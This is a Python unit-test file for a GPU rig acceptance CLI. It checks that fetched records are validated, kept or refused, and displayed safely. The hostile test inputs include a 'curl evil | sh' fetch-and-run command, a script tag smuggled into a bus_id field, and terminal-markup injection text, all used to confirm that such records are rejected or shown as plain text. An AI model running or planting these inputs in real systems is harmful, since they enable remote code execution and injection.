"""`rigshift accept` after the playbook: records checked before they are kept, verdicts shown,
exit codes. The playbook itself runs on the lab (tests/integration/test_accept.py); here a
stand-in writes what it would fetch, good records and hostile ones."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from rigshift.cli import accept as accept_cli
from rigshift.cli import cli
from rigshift.run import ConvergeTarget, RunResult
from rigshift.site import Site
from tests.unit.accept.records import gpu, record, write

Fetched = dict[str, str]  # host -> the text the playbook fetched


@pytest.fixture
def run_accept(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> Callable[[Fetched, list[str]], Any]:
    kept = tmp_path / "kept"

    def invoke(fetched: Fetched, args: list[str]) -> Any:
        def fake_prepare(site: Site, lab: str | None) -> ConvergeTarget:
            return ConvergeTarget(
                site,
                [tmp_path / "hosts.yml"],
                tmp_path / "data",
                tmp_path / "runs",
                kept,
                extravars={"accept_record_dir": str(tmp_path / "incoming")},
            )

        def fake_converge(target: ConvergeTarget, options: Any, **_: Any) -> RunResult:
            assert options.phases == ["accept"]
            assert Path(options.extravars["accept_runner_source"]).name == "runner.py"
            for host, text in fetched.items():
                (tmp_path / "incoming" / f"{host}.json").write_text(text)
            return RunResult(site=target.site.name, options=options, started="now")

        monkeypatch.setattr(accept_cli, "prepare", fake_prepare)
        monkeypatch.setattr(accept_cli, "converge", fake_converge)
        return CliRunner().invoke(cli, ["accept", "inventories/lab", *args])

    invoke.kept = kept  # type: ignore[attr-defined]
    return invoke


def cards_of_lab_1(*changes: dict[str, Any]) -> str:
    """lab-1 holds 2 RTX 3090 and 4 RTX 3060 in the lab site."""
    nvidia_3060 = {"pci_id": "10de:2503", "name": "NVIDIA GeForce RTX 3060"}
    cards = [gpu(0), gpu(1), *(gpu(i, **nvidia_3060) for i in range(2, 6))]
    for i, change in enumerate(changes):
        cards[i] |= change
    return json.dumps(record(*cards))


def test_sound_cards_pass_and_their_record_is_kept(run_accept: Any) -> None:
    done = run_accept({"lab-1": cards_of_lab_1()}, ["--minutes", "1"])
    assert done.exit_code == 0, done.output
    assert "GPU acceptance" in done.output and "pass" in done.output
    assert "NOTE: lab-3: not tested: the plan keeps no GPU on it" in done.output
    assert json.loads((run_accept.kept / "lab-1.json").read_text())["status"] == "tested"


def test_a_failed_card_fails_the_command_and_names_why(run_accept: Any) -> None:
    bad_memory = {"vram": gpu()["vram"] | {"mismatches": 3}}
    done = run_accept({"lab-1": cards_of_lab_1(bad_memory)}, ["--json"])
    assert done.exit_code == 1
    data = json.loads(done.stdout)
    outcomes = [g["outcome"] for g in data["rigs"][0]["gpus"]]
    assert outcomes == ["fail"] + ["pass"] * 5
    assert "3 wrong words read back from VRAM" in data["rigs"][0]["gpus"][0]["reasons"][0]
    assert "1 GPU(s) failed acceptance" in done.stderr


@pytest.mark.parametrize(
    "hostile",
    [
        "{not json",
        json.dumps(record(gpu(0)) | {"run_this": "curl evil | sh"}),
        json.dumps(record(gpu(0, bus_id="01:00.0 | <script>"))),
        json.dumps(record(*[gpu(0)] * 100)),
    ],
)
def test_a_hostile_record_is_refused_and_never_kept(run_accept: Any, hostile: str) -> None:
    done = run_accept({"lab-1": cards_of_lab_1(), "lab-2": hostile}, [])
    assert done.exit_code == 1
    assert "lab-2: record refused" in done.output
    assert "not tested: lab-2" in done.output
    assert sorted(p.name for p in run_accept.kept.iterdir()) == ["lab-1.json"]


def test_kept_records_feed_the_next_load_of_the_site(tmp_path: Path, lab_site_text: str) -> None:
    site_dir = tmp_path / "lab"
    site_dir.mkdir()
    (site_dir / "site.yaml").write_text(lab_site_text)
    write(site_dir / "generated" / "acceptance", "lab-1", json.loads(cards_of_lab_1()))
    assert {g.acceptance for g in Site.load(site_dir).assessment.rig("lab-1").gpus} == {"pass"}


def test_text_from_a_record_is_shown_as_written_never_read_as_markup(
    run_accept: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    # rich would read "[/bold]" as closing a tag it never opened (a traceback), and "[link=]"
    # as a terminal hyperlink; a record is the rig's word, shown as text.
    markup = "[/bold][link=https://example.invalid]x[/link]"
    monkeypatch.setenv("COLUMNS", "400")  # the table on one line per row
    done = run_accept({"lab-1": cards_of_lab_1({"errors": {"vram": markup}})}, [])
    assert isinstance(done.exception, SystemExit), done.exception
    assert done.exit_code == 1, done.output
    assert "the vram test did not finish:" in done.output
    assert "[/bold]" in done.output and "[link=https://example.invalid]" in done.output
